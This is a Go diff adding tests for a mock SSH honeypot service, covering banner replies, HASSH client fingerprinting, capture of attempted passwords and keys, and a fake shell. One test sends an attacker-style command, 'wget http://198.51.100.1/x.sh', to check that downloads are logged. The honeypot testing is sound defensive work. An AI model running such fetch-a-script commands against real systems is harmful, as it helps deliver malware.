@@ -1,8 +1,16 @@
 package mockproto
 
 import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"errors"
+	"net"
 	"strings"
+	"sync"
 	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
 )
 
 func TestMockSSH_DefaultBanner(t *testing.T) {
@@ -114,3 +122,234 @@ func TestMockSSH_RFC4253Banner(t *testing.T) {
 		t.Errorf("SSH banner must end with CRLF, got: %s", response)
 	}
 }
+
+// startInteractiveSSH serves MockSSH in interactive mode on a loopback port
+// and records every capture.
+func startInteractiveSSH(t *testing.T, config MockConfig) (string, func() []Capture) {
+	t.Helper()
+
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("listen: %v", err)
+	}
+	t.Cleanup(func() { ln.Close() })
+
+	var mu sync.Mutex
+	var captures []Capture
+	config.Protocol = "ssh"
+	config.CompleteKex = true
+	config.OnCapture = func(c Capture) {
+		mu.Lock()
+		captures = append(captures, c)
+		mu.Unlock()
+	}
+
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close()
+				MockSSH(conn, config)
+			}()
+		}
+	}()
+
+	return ln.Addr().String(), func() []Capture {
+		mu.Lock()
+		defer mu.Unlock()
+		return append([]Capture(nil), captures...)
+	}
+}
+
+func findCapture(captures []Capture, kind string) *Capture {
+	for i := range captures {
+		if captures[i].Kind == kind {
+			return &captures[i]
+		}
+	}
+	return nil
+}
+
+func TestMockSSH_InteractiveCapturesCredentials(t *testing.T) {
+	addr, captures := startInteractiveSSH(t, MockConfig{
+		Payload: []byte("SSH-2.0-OpenSSH_9.6p1 Debian-4\r\n"),
+	})
+
+	_, clientKey, _ := ed25519.GenerateKey(rand.Reader)
+	signer, err := ssh.NewSignerFromKey(clientKey)
+	if err != nil {
+		t.Fatalf("signer: %v", err)
+	}
+
+	_, err = ssh.Dial("tcp", addr, &ssh.ClientConfig{
+		User: "root",
+		Auth: []ssh.AuthMethod{
+			ssh.PublicKeys(signer),
+			ssh.Password("hunter2"),
+		},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+		Timeout:         5 * time.Second,
+	})
+	if err == nil {
+		t.Fatal("Expected authentication to be denied")
+	}
+
+	got := captures()
+	if len(got) == 0 || got[0].Kind != CaptureClientInfo {
+		t.Fatalf("Expected client_info as first capture, got %+v", got)
+	}
+	info := got[0]
+	if !strings.HasPrefix(info.Fields["client_version"], "SSH-2.0-Go") {
+		t.Errorf("Unexpected client_version: %q", info.Fields["client_version"])
+	}
+	if len(info.Fields["hassh"]) != 32 {
+		t.Errorf("Expected 32-char HASSH, got %q", info.Fields["hassh"])
+	}
+	if strings.Count(info.Fields["hassh_algorithms"], ";") != 3 {
+		t.Errorf("Unexpected hassh_algorithms: %q", info.Fields["hassh_algorithms"])
+	}
+
+	pw := findCapture(got, CapturePassword)
+	if pw == nil || pw.Username != "root" || pw.Password != "hunter2" {
+		t.Errorf("Expected password capture root/hunter2, got %+v", pw)
+	}
+
+	pk := findCapture(got, CapturePublicKey)
+	if pk == nil {
+		t.Fatal("Expected public key capture")
+	}
+	if pk.Fields["key_type"] != ssh.KeyAlgoED25519 {
+		t.Errorf("Expected ed25519 key, got %q", pk.Fields["key_type"])
+	}
+	if pk.Fields["key_fingerprint"] != ssh.FingerprintSHA256(signer.PublicKey()) {
+		t.Errorf("Fingerprint mismatch: %q", pk.Fields["key_fingerprint"])
+	}
+}
+
+func TestMockSSH_InteractiveServerVersion(t *testing.T) {
+	addr, _ := startInteractiveSSH(t, MockConfig{
+		Payload: []byte("SSH-2.0-OpenSSH_9.6p1 Debian-4\r\n"),
+	})
+
+	conn, err := net.DialTimeout("tcp", addr, 2*time.Second)
+	if err != nil {
+		t.Fatalf("dial: %v", err)
+	}
+	defer conn.Close()
+
+	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	buf := make([]byte, 256)
+	n, err := conn.Read(buf)
+	if err != nil {
+		t.Fatalf("read: %v", err)
+	}
+	if !strings.HasPrefix(string(buf[:n]), "SSH-2.0-OpenSSH_9.6p1 Debian-4\r\n") {
+		t.Errorf("Expected configured banner, got %q", buf[:n])
+	}
+}
+
+func TestMockSSH_InteractiveAcceptLogin(t *testing.T) {
+	addr, captures := startInteractiveSSH(t, MockConfig{AcceptLogin: true})
+
+	client, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{
+		User:            "admin",
+		Auth:            []ssh.AuthMethod{ssh.Password("admin")},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+		Timeout:         5 * time.Second,
+	})
+	if err != nil {
+		t.Fatalf("Expected login to be accepted: %v", err)
+	}
+	defer client.Close()
+
+	session, err := client.NewSession()
+	if err != nil {
+		t.Fatalf("session: %v", err)
+	}
+	defer session.Close()
+
+	out, err := session.CombinedOutput("uname -a; wget http://198.51.100.1/x.sh")
+	var exitErr *ssh.ExitError
+	if !errors.As(err, &exitErr) || exitErr.ExitStatus() != 4 {
+		t.Errorf("Expected wget exit status 4, got %v", err)
+	}
+	if !strings.Contains(string(out), "Linux web01") {
+		t.Errorf("Expected fake uname output, got %q", out)
+	}
+
+	got := captures()
+	pw := findCapture(got, CapturePassword)
+	if pw == nil || pw.Username != "admin" || pw.Password != "admin" {
+		t.Errorf("Expected password capture admin/admin, got %+v", pw)
+	}
+	dl := findCapture(got, CaptureDownload)
+	if dl == nil || dl.Fields["url"] != "http://198.51.100.1/x.sh" {
+		t.Errorf("Expected download capture, got %+v", dl)
+	}
+}
+
+func TestMockSSH_OneCommandPerSession(t *testing.T) {
+	addr, _ := startInteractiveSSH(t, MockConfig{AcceptLogin: true})
+
+	client, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{
+		User:            "admin",
+		Auth:            []ssh.AuthMethod{ssh.Password("admin")},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+		Timeout:         5 * time.Second,
+	})
+	if err != nil {
+		t.Fatalf("Expected login to be accepted: %v", err)
+	}
+	defer client.Close()
+
+	channel, reqs, err := client.OpenChannel("session", nil)
+	if err != nil {
+		t.Fatalf("session: %v", err)
+	}
+	defer channel.Close()
+	go ssh.DiscardRequests(reqs)
+
+	exec := ssh.Marshal(struct{ Command string }{"sleep 1"})
+	if ok, err := channel.SendRequest("exec", true, exec); err != nil || !ok {
+		t.Fatalf("Expected first exec accepted, got %v %v", ok, err)
+	}
+	if ok, _ := channel.SendRequest("shell", true, nil); ok {
+		t.Error("Expected a second command on the session to be refused")
+	}
+}
+
+func TestIdleConn(t *testing.T) {
+	server, client := net.Pipe()
+	defer client.Close()
+	idle := &idleConn{Conn: server}
+	defer idle.Close()
+
+	go client.Write([]byte("x"))
+	idle.timeout.Store(int64(50 * time.Millisecond))
+	buf := make([]byte, 1)
+	if _, err := idle.Read(buf); err != nil {
+		t.Fatalf("Expected data before the idle timeout, got %v", err)
+	}
+	var ne net.Error
+	if _, err := idle.Read(buf); !errors.As(err, &ne) || !ne.Timeout() {
+		t.Errorf("Expected an idle read to time out, got %v", err)
+	}
+}
+
+func TestParseKexInit_Malformed(t *testing.T) {
+	if parseKexInit(nil) != nil {
+		t.Error("Expected nil for empty payload")
+	}
+	payload := make([]byte, 17)
+	payload[0] = 21 // not KEXINIT
+	if parseKexInit(payload) != nil {
+		t.Error("Expected nil for wrong message type")
+	}
+	payload[0] = sshMsgKexInit
+	if parseKexInit(append(payload, 0, 0, 0, 99)) != nil {
+		t.Error("Expected nil for truncated name-list")
+	}
+}